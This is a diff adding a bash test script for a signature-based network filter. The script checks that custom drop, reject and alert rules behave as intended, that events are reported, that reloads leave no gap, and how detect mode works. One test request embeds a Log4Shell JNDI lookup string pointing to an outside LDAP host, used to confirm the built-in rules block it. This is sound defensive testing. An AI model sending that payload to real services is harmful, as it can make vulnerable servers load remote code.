@@ -1,0 +1,151 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: GPL-2.0-only
+# Signatures from the command line to the wire: what they drop, whom they block,
+# what is told of it, and that a new set takes the old one's place without a gap.
+. "$(dirname "$0")/lib.sh"
+
+mkdir "$work/www"
+echo hello >"$work/www/index.html"
+lab_listen "$work/www" 80 6379 || not_ok "the server listens"
+cat >"$work/own.rules" <<'END'
+alert tcp any any -> any 80 (msg:"a word"; content:"curious-word"; sid:100;)
+drop tcp any any -> any 80 (msg:"a bad word"; flow:to_server,established; http.uri; content:"/forbidden-word"; nocase; sid:101; rev:3; classtype:web-application-attack; reference:url,example.org;)
+reject tcp any any -> any 80 (msg:"an attack"; flow:to_server,established; content:"attack-word"; sid:102;)
+drop udp any any -> any 5353 (msg:"a datagram"; content:"udp-word"; sid:103;)
+alert tcp any any -> any 80 (msg:"an expression"; content:"pcre-word"; pcre:"/x+/"; sid:104;)
+END
+printf 'mode = enforce\nrules {\nbuiltin = false\n}\nservices = { "udp/5353" }\n' >"$config"
+
+# ask FROM PATH: does the page come?
+ask() {
+	lab_in attacker curl -gs -o /dev/null -m 1 --interface "$1" "http://$target4$2"
+}
+hits() {
+	sw_json ".rules[] | select(.sid == $1) | .hits" rules stats
+}
+event_of() {
+	sw_json "[.events[] | select(.signature.sid == $1)] | last | $2" events
+}
+is_told() {
+	[ "$(event_of "$1" .event)" != null ]
+}
+
+# ---- check
+
+expect 0 "check reads a file, attached or not" "$scanwall" -c "$config" rules check "$work/own.rules"
+says "the summary counts what is taken and what is not, and why" \
+	'5 rules read: 4 taken \(80.0 %\), 1 not' '^ +1 +regular expression \(pcre\)' \
+	'own.rules:5: sid 104: .*pcre'
+expect 0 "lenient takes a rule with pcre" "$scanwall" -c "$config" rules check --lenient "$work/own.rules"
+says "as an alert" '5 taken'
+expect 3 "strict: not all of it was taken" "$scanwall" -c "$config" --strict rules check "$work/own.rules"
+refused 1 "a file that is not there" '/nowhere.rules' "$scanwall" -c "$config" rules check /nowhere.rules
+refused 2 "an unknown sub-verb" 'did you mean "check"' "$scanwall" -c "$config" rules chekc x
+
+# ---- load
+
+sw attach net1 net0 -q
+daemon_start "the daemon runs"
+expect 0 "load" sw rules load "$work/own.rules"
+says "it says how many are in force" '4 rules are in force'
+is "they are listed" "$(sw_json '[.rules[].sid] | join(" ")' rules list)" "100 101 102 103"
+expect 0 "one is shown" sw rules show 101
+says "with all that is known of it" 'a bad word' 'action +drop' 'class +web-application-attack' \
+	'reference .*example.org' 'own.rules:2, revision 3' 'text +drop tcp'
+refused 1 "one that is not there" 'no rule 999' sw rules show 999
+refused 1 "a missing file changes nothing" 'nowhere.rules' sw rules load /nowhere.rules
+is "nothing is changed" "$(sw_json '.rules | length' rules list)" 4
+
+# ---- what they do
+
+new_self
+check "a page comes" ask "$source4" /
+check "an alert lets it pass" ask "$source4" '/?q=curious-word'
+check "and is told" eventually 5 is_told 100
+is "as an alert" "$(event_of 100 .signature.action)" alert
+is "with the bytes that matched" "$(event_of 100 .signature.matched)" curious-word
+is "and the flow" "$(event_of 100 '.packet.src + " " + (.packet.dport | tostring)')" "$source4 80"
+check "drop takes the packet away" not ask "$source4" /Forbidden-Word
+check "percent signs hide nothing" not ask "$source4" /%46orbidden%2dword
+check "its source is not blocked" ask "$source4" /
+check "it is told" eventually 5 is_told 101
+is "as a drop" "$(event_of 101 '.signature.action + " " + .signature.msg + " " + .signature.class')" \
+	"drop a bad word web-application-attack"
+check "reject takes the packet away" not ask "$source4" '/?q=attack-word'
+check "and blocks its source, for open connections too" eventually 5 not ask "$source4" /
+check "which is told" eventually 5 is_told 102
+is "as a block" "$(event_of 102 .event)" block
+is "that is proven" "$(event_of 102 .new_only)" false
+sw show "$source4" >"$work/show"
+check "show says why" grep -q 'an attack.*signature 102' "$work/show"
+# What is dropped, TCP sends again.
+check "hits are counted" test "$(hits 101)" -ge 2 -a "$(hits 102)" -ge 1
+expect 0 "stats" sw stats
+says "stats name the rules that were hit" '101 +[0-9]+ +[0-9]+ .*a bad word'
+expect 0 "rules stats" sw rules stats
+says "most hits first" 'SID +HITS +DROPPED +TRIED'
+check "the visitor is not concerned" fetch visitor "$visitor4" "http://$site4/"
+
+# A datagram's source may be forged: it is dropped, nobody is blocked.
+new_self
+lab_in attacker python3 - "$source4" "$target4" <<'END'
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((sys.argv[1], 0))
+for _ in range(5):
+    s.sendto(b"a udp-word", (sys.argv[2], 5353))
+END
+is "datagrams are dropped" "$(hits 103)" 5
+check "but their source is not blocked" ask "$source4" /
+
+# ---- switched off and on
+
+expect 0 "disable" sw rules disable 101
+check "what is disabled drops nothing" ask "$source4" /forbidden-word
+sw rules load -q
+check "it stays disabled when rules are loaded again" ask "$source4" /forbidden-word
+is "and is listed so" "$(sw_json '.rules[] | select(.sid == 101) | .enabled' rules list)" false
+expect 0 "enable" sw rules enable 101
+check "what is enabled drops" not ask "$source4" /forbidden-word
+refused 2 "disable of what is not there" 'no rule 999' sw rules disable 999
+expect 3 "strict: it was enabled already" sw --strict rules enable 101
+
+# ---- without a gap
+
+new_self
+( for _ in $(seq 40); do sw rules load -q; done ) &
+loader=$!
+passed=0 asked=0
+while kill -0 "$loader" 2>/dev/null; do
+	lab_in attacker curl -gs -o /dev/null -m 0.2 --interface "$source4" \
+		"http://$target4/forbidden-word" && passed=$((passed + 1))
+	asked=$((asked + 1))
+done
+wait "$loader"
+is "nothing passes while rules are replaced ($asked requests)" "$passed" 0
+
+# ---- detect mode, the daemon, the configuration
+
+sw mode detect -q
+new_self
+check "in detect mode everything passes" ask "$source4" '/forbidden-word?q=attack-word'
+check "and is told" eventually 5 is_told 102
+is "as what would be" "$(event_of 101 .signature.action)" would-drop
+sw mode enforce -q
+printf 'mode = enforce\nrules {\nbuiltin = true\n}\n' >"$config"
+expect 0 "reload" sw reload
+check "the built-in rules are in force" test "$(sw_json '.rules | length' rules list)" -gt 100
+sw config unset rules.files -q
+printf 'rules {\nfiles = { "/nowhere.rules" }\n}\n' >"$config"
+refused 1 "reload refuses a file that is not there" '/nowhere.rules' sw reload
+: >"$config"
+check "the rules in force stay" test "$(sw_json '.rules | length' rules list)" -gt 100
+new_self
+check "a page comes with the built-in rules" ask "$source4" /
+check "Log4Shell does not" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
+sw mode enforce -q
+check "its source is blocked" eventually 5 not ask "$source4" /
+daemon_end
+is "the daemon ends well" "$code" 0
+sw detach --all -q
+finish
